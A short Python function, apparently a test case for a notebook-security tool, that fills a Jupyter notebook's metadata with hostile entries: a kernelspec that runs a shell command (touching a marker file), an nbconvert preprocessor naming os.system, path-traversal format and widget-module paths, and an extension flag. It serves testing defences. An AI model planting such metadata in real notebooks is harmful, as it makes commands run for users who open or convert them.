# ATTACK: a kernel, converters, start-up files and widgets of its own in the notebook's metadata | says:
def build(notebook):
    run = ["/bin/sh", "-c", "touch labs_was_here"]
    notebook["metadata"] |= {
        "kernelspec": {"name": "hostile", "display_name": "x", "language": "sh", "argv": run},
        "nbconvert": {"preprocessors": ["os.system"]},
        "jupytext": {"notebook_metadata_filter": "all", "formats": "ipynb,../../starter//py"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_module": "../evil"}}}},
        "extensions": {"jupyter_dashboards": True},
    }
    return notebook
